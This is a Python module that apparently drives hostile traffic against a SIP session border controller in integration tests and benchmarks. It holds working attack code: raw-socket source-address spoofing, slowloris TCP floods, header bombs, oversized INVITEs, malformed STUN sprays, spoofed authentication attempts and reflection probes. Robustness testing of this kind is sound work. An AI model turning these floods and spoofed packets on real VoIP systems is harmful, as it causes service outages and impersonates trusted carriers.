"""Hostile traffic against a running SBC, one attack class at a time.

Used by ``tests/integration/test_hostile_traffic.py`` and ``bench/hostile.py``.
Each attack runs in its own process (``python attackers.py CLASS ...``) so it
never shares a GIL with the test or the SIPp driver, sends from one attacker
address as fast as it can (or at ``--rate`` packets per second), stops after
``--duration`` seconds, and prints one JSON line: what it sent and what came
back to it.

Classes (the findings of issue 11 they exercise):

- ``oversized``: 60 KB UDP INVITEs (a huge body): dropped before parsing.
- ``header_bomb``: UDP INVITEs with 3,500 short headers (~60 KB).
- ``garbage``: random bytes over UDP: malformed traffic that must earn a ban.
- ``stun``: malformed STUN (lengths overrunning the packet, bad attributes)
  and plain binding requests sprayed over the SBC's media port range.
- ``tcp_flood``: many TCP connections held open with half-sent messages
  trickling a byte at a time (slowloris), reopened when closed.
- ``spoofed_auth``: INVITEs with a bogus ``Authorization``, spoofed (raw
  socket) from a ``require_auth`` trunk's address.
- ``unknown_dialog``: BYEs with a To-tag for no dialog and padded Vias: a
  reflection attempt (the answer must come once and never be larger).
- ``invite_flood``: well-formed INVITEs from a stranger (403 / rate limits /
  ban).

Everything is bounded: duration, connection count, packet size.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

ATTACKS = (
    "oversized",
    "header_bomb",
    "garbage",
    "stun",
    "tcp_flood",
    "spoofed_auth",
    "unknown_dialog",
    "invite_flood",
)

#: A STUN binding request's header (RFC 5389 §6): type, length, magic cookie.
_STUN_BINDING = 0x0001
_STUN_COOKIE = 0x2112A442


# --- spoofed UDP -------------------------------------------------------------


def _checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def spoofed_datagram(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """An IP + UDP packet from ``src`` (any address we like) to ``dst``, IPv4 or IPv6,
    with a correct UDP checksum (mandatory over IPv6, RFC 8200 §8.1)."""
    v6 = ":" in dst[0]
    family = socket.AF_INET6 if v6 else socket.AF_INET
    src_b, dst_b = socket.inet_pton(family, src[0]), socket.inet_pton(family, dst[0])
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", src[1], dst[1], length, 0) + payload
    if v6:
        pseudo = src_b + dst_b + struct.pack("!I3xB", length, socket.IPPROTO_UDP)
    else:  # RFC 768
        pseudo = src_b + dst_b + struct.pack("!xBH", socket.IPPROTO_UDP, length)
    udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    if v6:
        header = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, 64) + src_b + dst_b
    else:
        ident = int.from_bytes(os.urandom(2), "big")
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + length, ident, 0, 64, socket.IPPROTO_UDP, 0, src_b, dst_b
        )
    return header + udp


class SpoofingSocket:
    """Sends UDP with a forged source address (needs root: a raw socket)."""

    def __init__(self, family: socket.AddressFamily = socket.AF_INET) -> None:
        self._sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        if family == socket.AF_INET:
            self._sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    def send(self, src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> None:
        self._sock.sendto(spoofed_datagram(src, dst, payload), (dst[0], 0))

    def close(self) -> None:
        self._sock.close()


def spoof_udp(src: str, sport: int, dst: tuple[str, int], payload: bytes) -> None:
    """Send one datagram as if from ``src``:``sport``."""
    sock = SpoofingSocket(socket.AF_INET6 if ":" in dst[0] else socket.AF_INET)
    try:
        sock.send((src, sport), dst, payload)
    finally:
        sock.close()


def can_spoof() -> bool:
    try:
        SpoofingSocket().close()
    except PermissionError:
        return False
    return True


# --- SIP payloads --------------------------------------------------------------


def _token() -> str:
    return f"{random.getrandbits(48):012x}"


def sip_request(
    method: str,
    target: tuple[str, int],
    source: tuple[str, int],
    *,
    to_tag: str | None = None,
    extra: str = "",
    body: bytes = b"",
    transport: str = "UDP",
) -> bytes:
    """A well-formed request from ``source`` to ``target`` (fresh Call-ID, tag, branch)."""
    host, port = target
    to = f"<sip:1000@{host}>" + (f";tag={to_tag}" if to_tag else "")
    head = (
        f"{method} sip:1000@{host}:{port} SIP/2.0\r\n"
        f"Via: SIP/2.0/{transport} {source[0]}:{source[1]};branch=z9hG4bK{_token()};rport\r\n"
        "Max-Forwards: 70\r\n"
        f"From: <sip:attacker@{source[0]}>;tag={_token()}\r\n"
        f"To: {to}\r\n"
        f"Call-ID: {_token()}@{source[0]}\r\n"
        f"CSeq: 1 {method}\r\n"
        f"Contact: <sip:attacker@{source[0]}:{source[1]}>\r\n"
        f"{extra}"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def oversized(target: tuple[str, int], source: tuple[str, int]) -> bytes:
    return sip_request("INVITE", target, source, body=b"v=0\r\n" + b"a" * 60000)


def header_bomb(target: tuple[str, int], source: tuple[str, int]) -> bytes:
    return sip_request("INVITE", target, source, extra="X-B: 0123456789\r\n" * 3500)


def unknown_dialog(target: tuple[str, int], source: tuple[str, int]) -> bytes:
    # Padded Vias make a naive answer (which echoes them) large.
    padding = "".join(
        f"Via: SIP/2.0/UDP 192.0.2.{i}:5060;branch=z9hG4bK{_token()}\r\n" for i in range(1, 30)
    )
    return sip_request("BYE", target, source, to_tag=_token(), extra=padding)


def bogus_auth(target: tuple[str, int], source: tuple[str, int], realm: str) -> bytes:
    auth = (
        f'Authorization: Digest username="carrier", realm="{realm}", nonce="{_token()}", '
        f'uri="sip:1000@{target[0]}", response="{"0" * 32}", algorithm=MD5\r\n'
    )
    return sip_request("INVITE", target, source, extra=auth)


def malformed_stun() -> bytes:
    """A STUN message whose attributes do not add up (one of several shapes)."""
    txid = os.urandom(12)
    shape = random.randrange(4)
    if shape == 0:  # declared length overruns the packet
        return struct.pack("!HHI", _STUN_BINDING, 400, _STUN_COOKIE) + txid + b"\x00\x01"
    if shape == 1:  # an attribute whose length overruns the message
        attr = struct.pack("!HH", 0x0006, 200) + b"user"
        return struct.pack("!HHI", _STUN_BINDING, len(attr), _STUN_COOKIE) + txid + attr
    if shape == 2:  # XOR-MAPPED-ADDRESS with an unknown family
        attr = struct.pack("!HHBBH", 0x0020, 8, 0, 7, 1234) + b"\x01\x02\x03\x04"
        return struct.pack("!HHI", _STUN_BINDING, len(attr), _STUN_COOKIE) + txid + attr
    # a plain, well-formed binding request: a reflector would answer it
    return struct.pack("!HHI", _STUN_BINDING, 0, _STUN_COOKIE) + txid


# --- running an attack ---------------------------------------------------------


@dataclass
class Report:
    attack: str
    sent: int = 0
    bytes_sent: int = 0
    answers: int = 0
    bytes_answered: int = 0
    connections: int = 0
    errors: int = 0
    extra: dict[str, int] = field(default_factory=dict)


class Pacer:
    """Yields until ``duration`` is over, at most ``rate`` times per second (0: no limit)."""

    def __init__(self, duration: float, rate: float) -> None:
        self.end = time.monotonic() + duration
        self.interval = 1.0 / rate if rate > 0 else 0.0
        self.next = time.monotonic()

    def __iter__(self) -> Iterator[None]:
        while True:
            now = time.monotonic()
            if now >= self.end:
                return
            if self.interval:
                if now < self.next:
                    time.sleep(min(self.next - now, self.end - now))
                    continue
                self.next += self.interval
            yield


def _drain(sock: socket.socket, report: Report) -> None:
    while True:
        try:
            data = sock.recv(65535)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            report.errors += 1
            return
        report.answers += 1
        report.bytes_answered += len(data)


def udp_attack(
    report: Report,
    source: tuple[str, int],
    target: tuple[str, int],
    make: Callable[[tuple[str, int]], bytes],
    pacer: Pacer,
) -> None:
    """Datagrams from our own socket; ``make`` gets its bound address (for Via)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(source)
    sock.setblocking(False)
    host, port = sock.getsockname()[:2]
    for _ in pacer:
        data = make((host, port))
        try:
            sock.sendto(data, target)
        except (BlockingIOError, InterruptedError):
            select.select([], [sock], [], 0.01)
            continue
        except OSError:
            report.errors += 1
            continue
        report.sent += 1
        report.bytes_sent += len(data)
        if report.sent % 64 == 0:
            _drain(sock, report)
    time.sleep(0.5)  # answers still on their way
    _drain(sock, report)
    sock.close()


def spoofed_attack(
    report: Report,
    spoofed: tuple[str, int],
    target: tuple[str, int],
    make: Callable[[], bytes],
    pacer: Pacer,
) -> None:
    sock = SpoofingSocket()
    for _ in pacer:
        data = make()
        try:
            sock.send(spoofed, target, data)
        except OSError:
            report.errors += 1
            continue
        report.sent += 1
        report.bytes_sent += len(data)
    sock.close()


def stun_attack(report: Report, source: str, media: tuple[str, int, int], pacer: Pacer) -> None:
    host, low, high = media
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((source, 0))
    sock.setblocking(False)
    port = low
    for _ in pacer:
        data = malformed_stun()
        try:
            sock.sendto(data, (host, port))
        except (BlockingIOError, InterruptedError):
            select.select([], [sock], [], 0.01)
            continue
        except OSError:
            report.errors += 1
        else:
            report.sent += 1
            report.bytes_sent += len(data)
        port = port + 1 if port < high else low
        if report.sent % 64 == 0:
            _drain(sock, report)
    time.sleep(0.5)
    _drain(sock, report)
    sock.close()


def tcp_flood(
    report: Report, source: str, target: tuple[str, int], max_connections: int, pacer: Pacer
) -> None:
    """Hold up to ``max_connections`` connections, each with a half-sent message.

    Every pass opens what is missing and sends one more byte on each open
    connection: a slowloris that also keeps every idle timer reset.
    """
    head = sip_request("INVITE", target, (source, 5060), transport="TCP")
    open_: dict[socket.socket, int] = {}
    closed = 0
    for _ in pacer:
        while len(open_) < max_connections:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            try:
                sock.bind((source, 0))
                sock.connect_ex(target)
            except OSError:
                sock.close()
                report.errors += 1
                break
            open_[sock] = 0
            report.connections += 1
        for sock, sent in list(open_.items()):
            if sent >= len(head) - 4:  # never finish the message
                sent = 0  # noqa: PLW2901 - keep trickling the same header bytes
            try:
                n = sock.send(head[sent : sent + 1])
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                sock.close()
                del open_[sock]
                closed += 1
                continue
            open_[sock] = sent + n
            report.sent += n
            report.bytes_sent += n
        time.sleep(0.05)
    for sock in open_:
        sock.close()
    report.extra["closed_by_peer"] = closed
    report.extra["held_at_end"] = len(open_)


def run(args: argparse.Namespace) -> Report:
    report = Report(args.attack)
    target = _address(args.target)
    source = (args.source, 0)
    pacer = Pacer(args.duration, args.rate)
    udp: dict[str, Callable[[tuple[str, int]], bytes]] = {
        "oversized": lambda own: oversized(target, own),
        "header_bomb": lambda own: header_bomb(target, own),
        "garbage": lambda _own: os.urandom(random.randint(200, 1400)),
        "unknown_dialog": lambda own: unknown_dialog(target, own),
        "invite_flood": lambda own: sip_request("INVITE", target, own),
    }
    if args.attack in udp:
        udp_attack(report, source, target, udp[args.attack], pacer)
    elif args.attack == "stun":
        low, high = (int(p) for p in args.media_ports.split("-"))
        stun_attack(report, args.source, (target[0], low, high), pacer)
    elif args.attack == "tcp_flood":
        tcp_flood(report, args.source, target, args.connections, pacer)
    elif args.attack == "spoofed_auth":
        spoofed = _address(args.spoof)
        spoofed_attack(
            report, spoofed, target, lambda: bogus_auth(target, spoofed, args.realm), pacer
        )
    return report


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return (host, int(port))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("attack", choices=ATTACKS)
    ap.add_argument("--target", required=True, help="HOST:PORT of the SBC's SIP listener")
    ap.add_argument("--source", default="127.0.0.66", help="the attacker's own address")
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--rate", type=float, default=0.0, help="packets/s; 0 = as fast as it can")
    ap.add_argument("--media-ports", default="20000-20100", help="LOW-HIGH, for stun")
    ap.add_argument("--connections", type=int, default=500, help="for tcp_flood")
    ap.add_argument("--spoof", default="127.0.0.30:5060", help="HOST:PORT, for spoofed_auth")
    ap.add_argument("--realm", default="sbc", help="for spoofed_auth")
    ap.add_argument("--nice", type=int, default=0, help="lower our CPU priority by this much")
    args = ap.parse_args(argv)
    if args.nice:
        os.nice(args.nice)
    report = run(args)
    print(json.dumps(report.__dict__))
    return 0


if __name__ == "__main__":
    sys.exit(main())
